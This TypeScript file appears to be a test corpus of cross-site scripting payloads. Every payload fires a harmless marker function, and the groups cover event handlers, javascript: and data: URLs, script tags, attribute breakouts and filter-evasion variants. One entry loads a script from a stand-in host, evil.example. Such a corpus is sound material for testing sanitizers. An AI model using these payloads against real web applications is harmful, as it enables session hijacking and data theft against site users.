// Script injections written from the HTML standard: each runs the marker `hit()` in at least one place where a value lands.

const HANDLERS: readonly (readonly [tag: string, attributes: string])[] = [
  ['img', 'src=x onerror=hit()'],
  ['svg', 'onload=hit()'],
  ['body', 'onpageshow="hit()"'],
  ['input', "autofocus onfocus='hit()'"],
  ['details', 'open ontoggle=hit()'],
  ['video', 'onloadstart=hit() src=1'],
  ['a', 'href=# onclick=hit``'],
  ['custom-element', 'onmouseenter=hit() tabindex=1'],
  ['p', 'onwheel=throw/**/hit()'],
  ['math', 'onpointerover="x=hit()"'],
  ['select', 'onchange=hit()'],
  ['form', 'onformdata=hit()'],
]
const URLS: readonly string[] = [
  '<a href=javascript:hit()>x</a>',
  '<a href="javascript:hit()">x</a>',
  "<iframe src='javascript:hit()'>",
  '<form action=javascript:hit()><button>',
  '<button formaction="javascript:hit()">x</button>',
  '<svg><a xlink:href=javascript:hit()>x</a></svg>',
  '<math href="javascript:hit()">x</math>',
  '<object data=javascript:hit()>',
  '<embed src=javascript:hit()>',
  '<area href=javascript:hit()>',
  '<base href=javascript:/a/-hit()//>',
]
const SCRIPTS: readonly string[] = [
  '<script>hit()</script>',
  '<script src=//evil.example/x.js></script>',
  '<svg><script>hit()</script></svg>',
  '<iframe srcdoc="&lt;script&gt;parent.hit()&lt;/script&gt;"></iframe>',
  '<script type=module>hit()</script>',
  '</textarea><script>hit()</script>',
  '</title><img src=x onerror=hit()>',
  '</style><svg onload=hit()>',
  '--><svg onload=hit()>',
  '<!--><img src=x onerror=hit()>',
  '<template><script>hit()</script></template>',
  '<meta http-equiv=refresh content="0;url=javascript:hit()">',
  '<object data="data:text/html,<script>hit()</script>"></object>',
  '<animate attributeName=href values=javascript:hit() />',
]
const ATTRIBUTES: readonly string[] = [
  '" onmouseover="hit()',
  "' onmouseover='hit()",
  'x onmouseover=hit()',
  '" autofocus onfocus=hit() x="',
  '"><img src=x onerror=hit()>',
  "'><script>hit()</script>",
  '" style="x:expression(hit())',
  "' onclick=hit()//",
]
const ADDRESSES: readonly string[] = [
  'javascript:hit()',
  'JavaScript://%0ahit()',
  'javascript:/**/hit()',
  ' javascript:hit()',
  '\x01javascript:hit()',
  'java\nscript:hit()',
  'data:text/html,<script>hit()</script>',
  'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==',
  'vbscript:hit()',
]

/** All of them, in a fixed order. */
export function xssAttacks(): string[] {
  return [
    ...HANDLERS.map(([tag, attributes]) => `<${tag} ${attributes}>`),
    ...URLS,
    ...SCRIPTS,
    ...ATTRIBUTES,
    ...ADDRESSES,
  ]
}
